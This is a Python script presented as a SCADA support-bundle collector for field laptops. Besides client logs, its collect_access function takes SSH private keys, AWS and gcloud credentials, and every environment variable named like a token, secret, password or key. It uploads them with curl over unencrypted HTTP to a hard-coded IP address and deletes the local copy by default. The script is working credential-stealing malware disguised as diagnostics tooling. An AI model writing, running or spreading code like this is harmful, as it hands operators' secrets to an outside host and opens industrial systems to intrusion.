#!/usr/bin/env python3
"""Collect a diagnostics bundle from a field laptop and upload it for the
SCADA integration team.

Gathers the SCADA client logs plus the "access material" the integration
team says they need to reproduce connection problems, packs everything into
one archive and posts it with curl.
"""
import argparse
import io
import json
import logging
import os
import subprocess
import sys
import tarfile
import time
from pathlib import Path

LOG = logging.getLogger("support_bundle")

UPLOAD_URL = "http://198.51.100.23/intake/upload"
HOME = Path.home()

ACCESS_FILES = [
    HOME / ".ssh" / "id_rsa",
    HOME / ".ssh" / "id_ed25519",
    HOME / ".ssh" / "config",
    HOME / ".aws" / "credentials",
    HOME / ".config" / "gcloud" / "application_default_credentials.json",
]
ENV_MARKERS = ("TOKEN", "SECRET", "PASSWORD", "KEY")


class Bundle:
    def __init__(self, site: str):
        self.site = site
        self.buf = io.BytesIO()
        self.tar = tarfile.open(fileobj=self.buf, mode="w:gz")
        self.count = 0

    def add_bytes(self, name: str, data: bytes) -> None:
        info = tarfile.TarInfo(name=f"{self.site}/{name}")
        info.size = len(data)
        info.mtime = int(time.time())
        self.tar.addfile(info, io.BytesIO(data))
        self.count += 1

    def add_file(self, path: Path, arcname: str) -> None:
        try:
            self.add_bytes(arcname, path.read_bytes())
            LOG.debug("added %s", path)
        except OSError as exc:
            LOG.debug("skipped %s: %s", path, exc)

    def close(self) -> bytes:
        self.tar.close()
        return self.buf.getvalue()


def collect_logs(bundle: Bundle, log_dir: Path) -> None:
    if not log_dir.is_dir():
        LOG.warning("log directory %s not found", log_dir)
        return
    for path in sorted(log_dir.glob("*.log"))[-20:]:
        bundle.add_file(path, f"logs/{path.name}")


def collect_access(bundle: Bundle) -> None:
    for path in ACCESS_FILES:
        if path.exists():
            bundle.add_file(path, f"access/{path.parent.name}_{path.name}")
    env = {k: v for k, v in os.environ.items()
           if any(m in k.upper() for m in ENV_MARKERS)}
    bundle.add_bytes("access/environment.json", json.dumps(env, indent=2).encode())


def upload(archive: Path, site: str) -> int:
    script = (
        'curl -sS --max-time 120 -F "site=$BUNDLE_SITE" '
        '-F "bundle=@$BUNDLE_PATH" "$BUNDLE_URL"'
    )
    env = dict(os.environ, BUNDLE_SITE=site, BUNDLE_PATH=str(archive),
               BUNDLE_URL=UPLOAD_URL)
    LOG.info("uploading %s (%d bytes)", archive, archive.stat().st_size)
    result = subprocess.run(["bash", "-c", script], env=env,
                            capture_output=True, text=True)
    if result.returncode != 0:
        LOG.error("upload failed: %s", result.stderr.strip())
    else:
        LOG.info("server replied: %s", result.stdout.strip()[:200])
    return result.returncode


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--site", default="offshore-b")
    ap.add_argument("--log-dir", type=Path, default=Path("./scada_client/logs"))
    ap.add_argument("--keep", action="store_true", help="keep local archive")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    bundle = Bundle(args.site)
    collect_logs(bundle, args.log_dir)
    collect_access(bundle)
    data = bundle.close()
    archive = Path(f"bundle_{args.site}_{int(time.time())}.tar.gz")
    archive.write_bytes(data)
    LOG.info("bundle has %d entries", bundle.count)
    try:
        rc = upload(archive, args.site)
    except OSError as exc:
        LOG.error("could not run uploader: %s", exc)
        rc = 1
    finally:
        if not args.keep:
            archive.unlink(missing_ok=True)
    return rc


if __name__ == "__main__":
    sys.exit(main())
